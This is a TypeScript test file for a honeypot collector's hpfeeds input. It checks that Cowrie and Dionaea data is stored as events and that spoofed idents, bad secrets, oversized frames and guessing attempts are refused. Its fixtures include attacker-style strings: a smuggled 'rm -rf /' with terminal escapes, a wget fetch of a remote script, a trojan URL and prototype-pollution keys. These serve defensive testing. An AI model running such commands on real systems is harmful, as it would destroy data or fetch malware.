// inputs.hpfeeds: Cowrie and Dionaea publish to `apiary start` as to MHN's broker, through a Python
// publisher written from the wire format their own clients use (test/fixtures/hpfeeds_publish.py),
// and what they publish is stored as events; wrong secrets, foreign idents, channels not granted,
// subscriptions and a broken stream are refused, and the input keeps serving.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { connect, type Socket } from 'node:net';
import { writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { loadOrCreateCertificate } from '../../src/sensors/http/tls-cert.js';
import { encodeTtyRecord, TTY_DIR, TTY_OP } from '../../src/importers/kippo/ttylog.js';
import { MAX_REMOTE_SOURCE_BYTES, MAX_REMOTE_SOURCE_DEPTH } from '../../src/collector/remote-event.js';
import { BACKLOG_CHECK_MS, MAX_AUTH_FAILURES_PER_SOURCE, MAX_BACKLOG_EVENTS, MAX_CONNECTIONS_PER_IDENT, MAX_UNAUTHENTICATED_PER_SOURCE, REFUSED_LINGER_MS, startHpfeedsInput, type RunningHpfeedsInput } from '../../src/collector/hpfeeds-input.js';
import { authDigest, encodeAuth, encodePublish, HpfeedsDecoder, MAX_MESSAGE_BYTES, OP_AUTH, OP_INFO } from '../../src/wire/hpfeeds.js';
import { collectorSetup, sensorSetup, type Child } from '../helpers/honeynet.js';
import { runCli, startApiaryProcess, tempDir, waitFor, writeConfig, type ApiaryProcess } from '../helpers/apiary-process.js';
import { nested } from '../helpers/events.js';

const PUBLISHER = resolve('test/fixtures/hpfeeds_publish.py');

type Step = ['publish', string, string, unknown] | ['subscribe', string, string] | ['raw', string];

/** Runs the Python publisher; resolves with the broker's messages and whether it closed the connection. */
function publish(port: number, ident: string, secret: string, steps: Step[], caFile?: string): Promise<{ info: string; replies: { op: number; text: string }[]; closed: boolean }> {
  return new Promise((resolveRun, reject) => {
    const p = spawn('/usr/bin/python3', [PUBLISHER, String(port), ident, secret, ...(caFile ? [caFile] : [])], { stdio: ['pipe', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    p.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
    p.stderr.setEncoding('utf8').on('data', (d: string) => (err += d));
    p.on('error', reject);
    p.on('exit', (code) => {
      if (code !== 0) return reject(new Error(`publisher exited ${code}: ${err}`));
      const lines = out.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
      resolveRun({
        info: String(lines[0]!.info),
        replies: lines.filter((l) => 'op' in l) as { op: number; text: string }[],
        closed: lines[lines.length - 1]!.closed === true,
      });
    });
    p.stdin.end(JSON.stringify(steps));
  });
}

const HOSTILE = 'x\u001b[2J\u0007"\'; rm -rf / #\u00e9';

const COWRIE_SESSION = {
  session: 'a1b2c3d4e5f6',
  startTime: '2024-03-01T10:00:00.123456Z',
  endTime: '2024-03-01T10:02:30.000000Z',
  peerIP: '203.0.113.50',
  peerPort: 51234,
  hostIP: '192.0.2.10',
  hostPort: 22,
  loggedin: ['root', 'toor'],
  credentials: [['root', '123456'], ['admin', HOSTILE]],
  commands: ['uname -a', 'wget http://198.51.100.9/x.sh', HOSTILE],
  unknownCommands: [HOSTILE],
  urls: ['http://198.51.100.9/x.sh'],
  version: 'SSH-2.0-Go',
  ttylog: null,
  hashes: ['a'.repeat(64)],
  protocol: 'ssh',
};

const SRVSVC = '4b324fc8-1670-01d3-1278-5a47bf6ee188';

let apiary: ApiaryProcess | undefined;
let port = 0;

async function sensorEvents(sensor: string): Promise<Record<string, unknown>[]> {
  return (await apiary!.events()).filter((e) => e.sensor === sensor);
}

const ENVELOPE = new Set(['id', 'time', 'type', 'sensor', 'session', 'protocol', 'src_ip', 'src_port', 'dst_ip', 'dst_port']);
/** The payload of an event as `apiary events --json` prints it (payload fields beside the envelope). */
function payloadOf(e: Record<string, unknown> | undefined): Record<string, unknown> {
  assert.ok(e);
  return Object.fromEntries(Object.entries(e).filter(([k]) => !ENVELOPE.has(k)));
}

test.before(async () => {
  apiary = await startApiaryProcess({
    sensor: 'central',
    services: {},
    inputs: {
      hpfeeds: {
        listen: ['127.0.0.1:0'],
        feeds: [
          { ident: 'cowrie-dmz', secret: 'cowrie-secret', sensor: 'cowrie-dmz' },
          { ident: 'dionaea-lab', secret: 'dionaea-secret', channels: ['dionaea.connections', 'dionaea.capture', 'dionaea.dcerpcrequests'] },
        ],
      },
    },
  });
  port = apiary.ports.hpfeeds!;
  assert.ok(port > 0, apiary.stdout());
});

test.after(async () => {
  await apiary?.stop();
});

test("Cowrie's session summary becomes the session's events, attacker strings kept exactly", async () => {
  const run = await publish(port, 'cowrie-dmz', 'cowrie-secret', [['publish', 'cowrie-dmz', 'cowrie.sessions', COWRIE_SESSION]]);
  assert.equal(run.info, 'apiary');
  assert.deepEqual(run.replies, []);
  assert.equal(run.closed, false);
  await waitFor(async () => (await sensorEvents('cowrie-dmz')).length >= 10);
  const events = (await sensorEvents('cowrie-dmz')).sort((a, b) => String(a.id).localeCompare(String(b.id)));
  assert.deepEqual(
    events.map((e) => e.type),
    ['connection.open', 'client.version', 'auth.attempt', 'auth.attempt', 'auth.attempt', 'command.input', 'command.input', 'command.input', 'file.download', 'connection.close'],
  );
  assert.ok(events.every((e) => e.src_ip === '203.0.113.50' && e.dst_port === 22 && e.protocol === 'ssh' && e.session === events[0]!.session));
  assert.equal(events[0]!.time, '2024-03-01T10:00:00.123Z');
  const auths = events.filter((e) => e.type === 'auth.attempt').map(payloadOf);
  assert.deepEqual(auths, [
    { method: 'password', username: 'root', password: '123456', success: false },
    { method: 'password', username: 'admin', password: HOSTILE, success: false },
    { method: 'password', username: 'root', password: 'toor', success: true },
  ]);
  const commands = events.filter((e) => e.type === 'command.input').map(payloadOf);
  assert.deepEqual(commands, [{ input: 'uname -a', known: true }, { input: 'wget http://198.51.100.9/x.sh', known: true }, { input: HOSTILE, known: false }]);
  assert.deepEqual(payloadOf(events.find((e) => e.type === 'file.download')), { url: 'http://198.51.100.9/x.sh', sha256: 'a'.repeat(64), outcome: 'stored' });
  const close = events.find((e) => e.type === 'connection.close')!;
  assert.equal(payloadOf(close).duration_ms, 149_877);
  assert.equal(close.time, '2024-03-01T10:02:30.000Z');
});

test("Dionaea's connection, MS08-067 request and capture share one session under the feed's sensor", async () => {
  const started = Date.now() - 1000;
  const conn = { connection_type: 'accept', connection_transport: 'tcp', connection_protocol: 'smbd', remote_host: '10.9.8.7', remote_port: 49152, remote_hostname: '', local_host: '192.0.2.20', local_port: 445 };
  const rpc = { uuid: SRVSVC, opnum: 31, saddr: '10.9.8.7', sport: '49152', daddr: '192.0.2.20', dport: '445' };
  const capture = { time: '2024-03-02 08:15:00.500000 UTC +0000', saddr: '10.9.8.7', sport: '49152', daddr: '192.0.2.20', dport: '445', md5: 'B'.repeat(32), sha512: 'c'.repeat(128), url: 'http://198.51.100.77/trojan.exe' };
  const run = await publish(port, 'dionaea-lab', 'dionaea-secret', [
    ['publish', 'dionaea-lab', 'dionaea.connections', { ...conn, connection_type: 'listen' }],
    ['publish', 'dionaea-lab', 'dionaea.connections', conn],
    ['publish', 'dionaea-lab', 'dionaea.dcerpcrequests', rpc],
    ['publish', 'dionaea-lab', 'dionaea.capture', capture],
  ]);
  assert.deepEqual(run.replies, []);
  // The sensor name is the ident when the feed names none.
  await waitFor(async () => (await sensorEvents('dionaea-lab')).length >= 4);
  const events = await sensorEvents('dionaea-lab');
  assert.deepEqual(events.map((e) => e.type).sort(), ['connection.open', 'exploit.attempt', 'file.download', 'rpc.request']);
  assert.equal(new Set(events.map((e) => e.session)).size, 1);
  assert.ok(events.every((e) => e.src_ip === '10.9.8.7' && e.dst_port === 445 && e.protocol === 'smb'));
  assert.deepEqual(payloadOf(events.find((e) => e.type === 'exploit.attempt')), { name: 'MS08-067', cve: 'CVE-2008-4250', detail: 'SRVSVC NetPathCanonicalize (opnum 31)' });
  assert.deepEqual(payloadOf(events.find((e) => e.type === 'rpc.request')), { interface_uuid: SRVSVC, opnum: 31, interface: 'srvsvc', operation: 'NetPathCanonicalize', vuln: 'MS08-067' });
  const dl = events.find((e) => e.type === 'file.download')!;
  assert.deepEqual(payloadOf(dl), { url: 'http://198.51.100.77/trojan.exe', md5: 'b'.repeat(32), outcome: 'stored' });
  // Dionaea's capture time is its local time labelled GMT: the arrival time is kept instead.
  assert.ok(Date.parse(String(dl.time)) >= started, String(dl.time));
});

test('wrong secrets, foreign idents, channels not granted and subscriptions are refused; a broken stream is closed', async () => {
  const seen = new Set((await apiary!.events()).map((e) => e.id));
  const wrong = await publish(port, 'cowrie-dmz', 'not-the-secret', [['publish', 'cowrie-dmz', 'cowrie.sessions', { ...COWRIE_SESSION, session: 'bad1' }]]);
  assert.deepEqual(wrong.replies, [{ op: 0, text: 'Authentication failed for cowrie-dmz' }]);
  assert.equal(wrong.closed, true);
  const unknown = await publish(port, 'nobody', 'x', []);
  assert.deepEqual(unknown.replies, [{ op: 0, text: 'Authentication failed for nobody' }]);

  // A channel not granted and a subscription: an ERROR and the connection closed, as the reference broker does.
  const denied = await publish(port, 'dionaea-lab', 'dionaea-secret', [['publish', 'dionaea-lab', 'cowrie.sessions', { ...COWRIE_SESSION, session: 'bad2' }]]);
  assert.deepEqual(denied.replies, [{ op: 0, text: 'Authkey not allowed to pub here. ident=dionaea-lab, chan=cowrie.sessions' }]);
  assert.equal(denied.closed, true);
  const sub = await publish(port, 'dionaea-lab', 'dionaea-secret', [['subscribe', 'dionaea-lab', 'cowrie.sessions']]);
  assert.deepEqual(sub.replies, [{ op: 0, text: 'Authkey not allowed to sub here. ident=dionaea-lab, chan=cowrie.sessions' }]);
  assert.equal(sub.closed, true);
  // Dionaea sends each unique file on its own channel after the capture message: taken, not kept, no error.
  const binary = await publish(port, 'dionaea-lab', 'dionaea-secret', [['publish', 'dionaea-lab', 'mwbinary.dionaea.sensorunique', 'MZ\u0090\u0000 not kept']]);
  assert.deepEqual([binary.replies, binary.closed], [[], false]);
  // Names a feed controls that are also Object.prototype's: dropped or mapped, never stored as functions.
  await publish(port, 'dionaea-lab', 'dionaea-secret', [
    ['publish', 'dionaea-lab', 'dionaea.connections', { connection_type: 'accept', connection_transport: 'tcp', connection_protocol: 'toString', remote_host: '10.9.8.6', remote_port: 1, local_host: '192.0.2.20', local_port: 445 }],
    ['publish', 'dionaea-lab', 'dionaea.dcerpcrequests', { uuid: 'constructor', opnum: 1, saddr: '10.9.8.6', sport: '1', daddr: '192.0.2.20', dport: '445' }],
    ['publish', 'dionaea-lab', 'dionaea.dcerpcrequests', { uuid: '__proto__', opnum: 0, saddr: '10.9.8.6', sport: '1', daddr: '192.0.2.20', dport: '445' }],
  ]);
  await waitFor(async () => (await apiary!.events()).filter((e) => e.src_ip === '10.9.8.6').length === 3);
  const proto = (await apiary!.events()).filter((e) => e.src_ip === '10.9.8.6');
  assert.deepEqual(proto.map((e) => [e.type, e.protocol]).sort(), [['connection.open', 'toString'], ['rpc.request', 'toString'], ['rpc.request', 'toString']]);
  assert.deepEqual(proto.filter((e) => e.type === 'rpc.request').map((e) => e.interface_uuid).sort(), ['__proto__', 'constructor']);
  for (const e of proto) seen.add(e.id);
  const before2 = seen.size;

  const spoof = await publish(port, 'dionaea-lab', 'dionaea-secret', [['publish', 'cowrie-dmz', 'cowrie.sessions', { ...COWRIE_SESSION, session: 'bad3' }]]);
  assert.deepEqual(spoof.replies, [{ op: 0, text: 'Invalid authkey in message, ident=cowrie-dmz' }]);
  assert.equal(spoof.closed, true);

  // A header announcing 2 GB, then garbage: closed with the reason, nothing stored.
  const broken = await publish(port, 'cowrie-dmz', 'cowrie-secret', [['raw', `7fffffff03${'00'.repeat(64)}`]]);
  assert.equal(broken.closed, true);
  assert.match(broken.replies[0]!.text, /message of 2147483647 bytes for opcode 3/);
  // Not JSON, and JSON that is not a session: dropped, the connection kept.
  const junk = await publish(port, 'cowrie-dmz', 'cowrie-secret', [
    ['publish', 'cowrie-dmz', 'cowrie.sessions', '{"session": '],
    ['publish', 'cowrie-dmz', 'cowrie.sessions', [1, 2, 3]],
    ['publish', 'cowrie-dmz', 'cowrie.sessions', { session: 'x' }],
  ]);
  assert.deepEqual(junk.replies, []);
  assert.equal(junk.closed, false);

  // The input still serves: a good session after all that is stored.
  await publish(port, 'cowrie-dmz', 'cowrie-secret', [['publish', 'cowrie-dmz', 'cowrie.sessions', { ...COWRIE_SESSION, session: 'after', credentials: [], commands: [], urls: [], hashes: [], loggedin: null, version: null, unknownCommands: [] }]]);
  await waitFor(async () => (await apiary!.events()).length >= before2 + 2);
  await new Promise((r) => setTimeout(r, 300));
  const added = (await apiary!.events()).filter((e) => !seen.has(e.id)).sort((a, b) => String(a.id).localeCompare(String(b.id)));
  assert.deepEqual(added.map((e) => [e.type, e.sensor, e.time]), [
    ['connection.open', 'cowrie-dmz', '2024-03-01T10:00:00.123Z'],
    ['connection.close', 'cowrie-dmz', '2024-03-01T10:02:30.000Z'],
  ]);
});

test('a bad hpfeeds config stops start-up with the key named: a repeated ident, an unreadable TLS file', async () => {
  const dir = tempDir();
  const twice = writeConfig(dir, { services: {}, inputs: { hpfeeds: { listen: ['127.0.0.1:0'], feeds: [{ ident: 'a', secret: 'x' }, { ident: 'a', secret: 'y' }] } } });
  const r1 = await runCli(['config', 'check', twice], { allowFail: true });
  assert.equal(r1.code, 2);
  assert.match(r1.stderr, /^apiary: APIARY_CONFIG_INVALID: .*inputs\.hpfeeds\.feeds\[1\]\.ident: ident "a" is listed twice/);
  const tlsDir = tempDir();
  writeFileSync(join(tlsDir, 'key.pem'), 'not a key');
  const noCert = writeConfig(tlsDir, { data_dir: join(tlsDir, 'data'), services: {}, inputs: { hpfeeds: { listen: ['127.0.0.1:0'], tls: { cert: join(tlsDir, 'missing.pem'), key: join(tlsDir, 'key.pem') }, feeds: [{ ident: 'a', secret: 'x' }] } } });
  const r2 = await runCli(['start', '--config', noCert], { allowFail: true });
  assert.notEqual(r2.code, 0);
  assert.match(r2.stderr, /APIARY_TLS_CERT: inputs\.hpfeeds\.tls\.cert: cannot read .*missing\.pem \(ENOENT\)/);
  assert.doesNotMatch(r2.stderr, /\n\s+at /, 'no stack trace');
});

test('over TLS with the operator\'s certificate, a publisher that checks it is served; a plain one is not', async () => {
  const dir = tempDir();
  const tls = await loadOrCreateCertificate(join(dir, 'tls'), '127.0.0.1');
  const tlsApiary = await startApiaryProcess(
    { sensor: 'central', services: {}, inputs: { hpfeeds: { listen: ['127.0.0.1:0'], tls: { cert: join(dir, 'tls', 'server.crt'), key: join(dir, 'tls', 'server.key') }, feeds: [{ ident: 'cowrie-tls', secret: 's3' }] } } },
    { dir },
  );
  try {
    assert.ok(tls.cert.includes('BEGIN CERTIFICATE'));
    const tlsPort = tlsApiary.ports.hpfeeds!;
    const run = await publish(tlsPort, 'cowrie-tls', 's3', [['publish', 'cowrie-tls', 'cowrie.sessions', { ...COWRIE_SESSION, credentials: [], commands: [], urls: [], hashes: [], unknownCommands: [] }]], join(dir, 'tls', 'server.crt'));
    assert.equal(run.info, 'apiary');
    await waitFor(async () => (await tlsApiary.events()).some((e) => e.sensor === 'cowrie-tls' && e.type === 'auth.attempt'));
    // A plain-TCP publisher gets no INFO from a TLS listener.
    await assert.rejects(publish(tlsPort, 'cowrie-tls', 's3', []));
    // Raw connections that never start the handshake count against the limits like any other.
    const idle = await Promise.all(Array.from({ length: MAX_UNAUTHENTICATED_PER_SOURCE }, () => raw(tlsPort, undefined, 800)));
    assert.ok(idle.every((c) => !c.closed));
    assert.equal((await raw(tlsPort, undefined, 800)).closed, true);
    // Stopping does not wait for them.
    const t0 = Date.now();
    assert.equal(await tlsApiary.stop(), 0);
    assert.ok(Date.now() - t0 < 8000, `stopped in ${Date.now() - t0} ms`);
    for (const c of idle) c.socket.destroy();
  } finally {
    await tlsApiary.stop();
  }
});

/** A raw connection: resolves with what the broker sent before closing (or after MS), and whether it closed. */
function raw(p: number, send: Buffer | undefined, ms = 1500, halfOpen = false, from?: string): Promise<{ data: Buffer; closed: boolean; socket: Socket }> {
  return new Promise((done) => {
    // halfOpen: a peer that never closes its side when the broker closes its own; FROM: its loopback address.
    const socket = connect({ port: p, host: '127.0.0.1', allowHalfOpen: halfOpen, ...(from ? { localAddress: from } : {}) });
    const got: Buffer[] = [];
    let closed = false;
    socket.on('data', (d) => got.push(d));
    socket.on('error', () => {});
    socket.on('close', () => {
      closed = true;
      done({ data: Buffer.concat(got), closed, socket });
    });
    socket.on('connect', () => send && socket.write(send));
    setTimeout(() => !closed && done({ data: Buffer.concat(got), closed, socket }), ms);
  });
}

test('before AUTH nothing bigger than an AUTH is buffered, and one address holds few unauthenticated connections', async () => {
  // A PUBLISH header announcing 100 kB before any AUTH: refused at the header.
  const head = Buffer.alloc(5);
  head.writeUInt32BE(100_000, 0);
  head[4] = 3;
  const early = await raw(port, head);
  assert.equal(early.closed, true);
  const replies = new HpfeedsDecoder().push(early.data).map((d) => (d.ok ? d.message : assert.fail(d.reason)));
  assert.deepEqual(replies.map((m) => m.op), [1, 0]);
  assert.deepEqual(replies[1], { op: 0, text: `message of 100000 bytes for opcode 3 (limit ${MAX_MESSAGE_BYTES[OP_AUTH]})` });
  // Idle connections that never authenticate: the first few get INFO, the next is closed at once.
  const idle = await Promise.all(Array.from({ length: MAX_UNAUTHENTICATED_PER_SOURCE }, () => raw(port, undefined, 800)));
  assert.ok(idle.every((c) => !c.closed && c.data[4] === 1));
  const extra = await raw(port, undefined, 800);
  assert.equal(extra.closed, true);
  assert.equal(extra.data.length, 0);
  for (const c of idle) c.socket.destroy();
  // Once they are gone, the address is served again.
  await waitFor(async () => !(await raw(port, undefined, 300)).closed);
  // Idle connections from 8 addresses fill the unauthenticated half of max_connections (64): a feed
  // still logs in and publishes, the oldest idle one making room.
  const crowd = (await Promise.all(Array.from({ length: 8 }, (_, a) => Promise.all(Array.from({ length: MAX_UNAUTHENTICATED_PER_SOURCE }, () => raw(port, undefined, 300, false, `127.0.0.${a + 2}`)))))).flat();
  assert.ok(crowd.every((c) => !c.closed));
  const through = await publish(port, 'cowrie-dmz', 'cowrie-secret', []);
  assert.deepEqual([through.info, through.replies, through.closed], ['apiary', [], false]);
  for (const c of crowd) c.socket.destroy();
  // Refused peers that keep their side open do not keep their slots: cut after REFUSED_LINGER_MS.
  const stubborn = await Promise.all(Array.from({ length: MAX_UNAUTHENTICATED_PER_SOURCE }, () => raw(port, Buffer.from('GET / HTTP/1.0\r\n\r\n'), 300, true)));
  await new Promise((r) => setTimeout(r, REFUSED_LINGER_MS + 500));
  const after = await raw(port, undefined, 500);
  assert.equal(after.closed, false);
  assert.equal(after.data[4], 1, 'INFO');
  for (const c of [...stubborn, after]) c.socket.destroy();
});

test('secrets cannot be guessed online: past MAX_AUTH_FAILURES_PER_SOURCE failed AUTHs for an ident, an address gets in with no secret for it, the right one included; other idents and addresses still do', async () => {
  const guesser = '127.0.0.70';
  /** One AUTH for IDENT with SECRET from address FROM, answered to the nonce in the INFO: 'in', or 'refused'. */
  const login = (ident: string, secret: string | undefined, from: string): Promise<'in' | 'refused'> =>
    new Promise((done) => {
      const socket = connect({ port, host: '127.0.0.1', localAddress: from });
      const decoder = new HpfeedsDecoder();
      let answered = false;
      socket.on('error', () => {});
      socket.on('data', (chunk: Buffer) => {
        for (const d of decoder.push(chunk)) {
          if (!d.ok) continue;
          if (d.message.op === OP_INFO && !answered) {
            answered = true;
            socket.write(encodeAuth(ident, secret === undefined ? Buffer.alloc(20, 7) : authDigest(d.message.nonce, secret)));
            // No ERROR within a moment: logged in.
            setTimeout(() => {
              socket.destroy();
              done('in');
            }, 400);
          } else if (d.message.op === 0) {
            socket.destroy();
            done('refused');
          }
        }
      });
    });
  for (let i = 0; i < MAX_AUTH_FAILURES_PER_SOURCE; i++) assert.equal(await login('cowrie-dmz', undefined, guesser), 'refused');
  assert.equal(await login('cowrie-dmz', 'cowrie-secret', guesser), 'refused', 'the right secret, guessed after the limit, is refused too');
  assert.equal(await login('dionaea-lab', 'dionaea-secret', guesser), 'in', 'another feed behind the same address');
  assert.equal(await login('cowrie-dmz', 'cowrie-secret', '127.0.0.71'), 'in', 'the same feed from another address');
});

test('under apiary sensor, what feeds publish is shipped to the collector under the sensor\'s own name', async () => {
  const children: Child[] = [];
  try {
    const c = await collectorSetup();
    children.push(await c.start());
    const setup = await sensorSetup('edge-1', `https://127.0.0.1:${c.port}`, await c.token('edge-1'), {
      services: {},
      extra: { inputs: { hpfeeds: { listen: ['127.0.0.1:0'], feeds: [{ ident: 'cowrie-edge', secret: 'e1', sensor: 'ignored-when-shipped' }] } } },
    });
    const sensor = await setup.start();
    children.push(sensor);
    const run = await publish(sensor.ports.hpfeeds!, 'cowrie-edge', 'e1', [['publish', 'cowrie-edge', 'cowrie.sessions', { ...COWRIE_SESSION, session: 'shipped' }]]);
    assert.deepEqual(run.replies, []);
    const stored = async (): Promise<Record<string, unknown>[]> => {
      const { stdout } = await runCli(['events', '--config', c.configPath, '--json']);
      return stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
    };
    await waitFor(async () => (await stored()).length >= 10, 20_000);
    const events = await stored();
    assert.equal(events.length, 10);
    assert.ok(events.every((e) => e.sensor === 'edge-1'), JSON.stringify(events.map((e) => e.sensor)));
  } finally {
    for (const ch of children) await ch.stop();
  }
});

/** A logged-in connection of IDENT (the codec's own client), kept open; resolves once AUTH is sent. */
function login(p: number, ident: string, secret: string): Promise<{ socket: Socket; closed: () => boolean }> {
  return new Promise((done, reject) => {
    const socket = connect(p, '127.0.0.1');
    const d = new HpfeedsDecoder();
    let closed = false;
    socket.on('error', () => {});
    socket.on('close', () => (closed = true));
    socket.on('data', (chunk) => {
      for (const m of d.push(chunk)) {
        if (!m.ok || m.message.op !== OP_INFO) return reject(new Error('no INFO'));
        socket.write(encodeAuth(ident, authDigest(m.message.nonce, secret)), () => done({ socket, closed: () => closed }));
      }
    });
  });
}

test('a feed that logs in again past MAX_CONNECTIONS_PER_IDENT loses its oldest connection (a publisher that reconnected)', async () => {
  const conns: { socket: Socket; closed: () => boolean }[] = [];
  for (let i = 0; i <= MAX_CONNECTIONS_PER_IDENT; i++) {
    conns.push(await login(port, 'cowrie-dmz', 'cowrie-secret'));
    await new Promise((r) => setTimeout(r, 100));
  }
  await waitFor(() => conns[0]!.closed());
  assert.deepEqual(conns.slice(1).map((c) => c.closed()), Array(MAX_CONNECTIONS_PER_IDENT).fill(false));
  for (const c of conns) c.socket.destroy();
});

test("a session summary's TTY log becomes a recording that apiary replay plays", async () => {
  const t = Date.UTC(2024, 3, 1) / 1000;
  const tty = Buffer.concat([
    encodeTtyRecord({ op: TTY_OP.OPEN, tty: 1, direction: 0, time: t, data: Buffer.alloc(0) }),
    encodeTtyRecord({ op: TTY_OP.WRITE, tty: 1, direction: TTY_DIR.OUTPUT, time: t + 0.5, data: Buffer.from('root@svr04:~# ') }),
    encodeTtyRecord({ op: TTY_OP.WRITE, tty: 1, direction: TTY_DIR.INPUT, time: t + 1, data: Buffer.from('uname -a\r') }),
    encodeTtyRecord({ op: TTY_OP.WRITE, tty: 1, direction: TTY_DIR.OUTPUT, time: t + 1.2, data: Buffer.from('Linux svr04 3.2.0-4-amd64\r\n\u001b]0;owned\u0007') }),
    encodeTtyRecord({ op: TTY_OP.CLOSE, tty: 1, direction: 0, time: t + 2, data: Buffer.alloc(0) }),
  ]);
  const run = await publish(port, 'cowrie-dmz', 'cowrie-secret', [['publish', 'cowrie-dmz', 'cowrie.sessions', { ...COWRIE_SESSION, session: 'withtty', credentials: [], commands: ['uname -a'], urls: [], hashes: [], unknownCommands: [], ttylog: tty.toString('hex') }]]);
  assert.deepEqual(run.replies, []);
  let rec: Record<string, unknown> | undefined;
  await waitFor(async () => (rec = (await apiary!.events()).find((e) => e.type === 'session.recording')) !== undefined);
  assert.equal(rec!.format, 'asciicast');
  assert.equal(rec!.size, tty.length);
  assert.equal(rec!.duration_ms, 2000);
  const replay = await runCli(['replay', String(rec!.session), '--config', apiary!.configPath, '--instant']);
  assert.match(replay.stdout, /^root@svr04:~# Linux svr04 3\.2\.0-4-amd64/);
  // The attacker's title sequence does not reach the operator's terminal.
  assert.doesNotMatch(replay.stdout, /\u001b\]0;owned/);
});

/** An input in this process for one feed, IDENT (secret "s") publishing on CHANNEL, that writes to WRITTEN. */
async function inputWriting(ident: string, channel: string, written: unknown[], backlog?: () => number): Promise<RunningHpfeedsInput> {
  return startHpfeedsInput({
    addresses: [{ host: '127.0.0.1', port: 0 }],
    name: 'apiary',
    feeds: [{ ident, secret: 's', sensor: ident, channels: [channel] }],
    maxConnections: 8,
    sink: { write: (e) => void written.push(e), flush: async () => {} },
    ...(backlog ? { backlog } : {}),
    log: (await import('pino')).default({ level: 'silent' }),
  });
}

test('while the collector is behind, the feeds are not read (TCP holds them back); they are once it has caught up', async () => {
  let backlog = 0;
  const written: unknown[] = [];
  const input = await inputWriting('f', 'cowrie.sessions', written, () => backlog);
  try {
    const { socket } = await login(input.bound[0]!.port, 'f', 's');
    const summary = (n: number): Buffer => encodePublish('f', 'cowrie.sessions', Buffer.from(JSON.stringify({ ...COWRIE_SESSION, session: `b${n}`, credentials: [], commands: [], urls: [], hashes: [], unknownCommands: [], version: null, loggedin: null })));
    socket.write(summary(1));
    await waitFor(() => written.length === 2);
    // The collector falls behind: what comes next waits in the sockets.
    backlog = MAX_BACKLOG_EVENTS + 1;
    socket.write(summary(2));
    await waitFor(() => written.length === 4);
    socket.write(summary(3));
    await new Promise((r) => setTimeout(r, BACKLOG_CHECK_MS * 5));
    assert.equal(written.length, 4, 'not read while the backlog is high');
    backlog = MAX_BACKLOG_EVENTS / 2;
    await waitFor(() => written.length === 6);
    socket.destroy();
  } finally {
    await input.close();
  }
});

test("a feed's record nested past MAX_REMOTE_SOURCE_DEPTH or larger than MAX_REMOTE_SOURCE_BYTES is cut to fit its event's source, and the event is written", async () => {
  const written: { src_port: number; source?: { record_cut?: number } }[] = [];
  const input = await inputWriting('d', 'dionaea.connections', written);
  try {
    const { socket } = await login(input.bound[0]!.port, 'd', 's');
    const connection = (remotePort: number, extra: Record<string, unknown> = {}): Buffer =>
      encodePublish('d', 'dionaea.connections', Buffer.from(JSON.stringify({ connection_type: 'accept', connection_transport: 'tcp', connection_protocol: 'smbd', remote_host: '203.0.113.7', remote_port: remotePort, local_host: '192.0.2.1', local_port: 445, ...extra })));
    // The source holds the record, so a field of the record nested DEPTH - 2 deep is at the bound.
    socket.write(connection(40001));
    socket.write(connection(40002, { extra: nested(MAX_REMOTE_SOURCE_DEPTH - 2) }));
    socket.write(connection(40003, { extra: nested(MAX_REMOTE_SOURCE_DEPTH - 1) }));
    socket.write(connection(40004, { extra: 'x'.repeat(MAX_REMOTE_SOURCE_BYTES) }));
    socket.write(connection(40005));
    await waitFor(() => written.some((e) => e.src_port === 40005));
    assert.deepEqual(written.map((e) => e.src_port), [40001, 40002, 40003, 40004, 40005]);
    assert.deepEqual(written.map((e) => e.source?.record_cut), [undefined, undefined, 1, 1, undefined]);
    assert.deepEqual([...input.stats.dropped], []);
    socket.destroy();
  } finally {
    await input.close();
  }
});
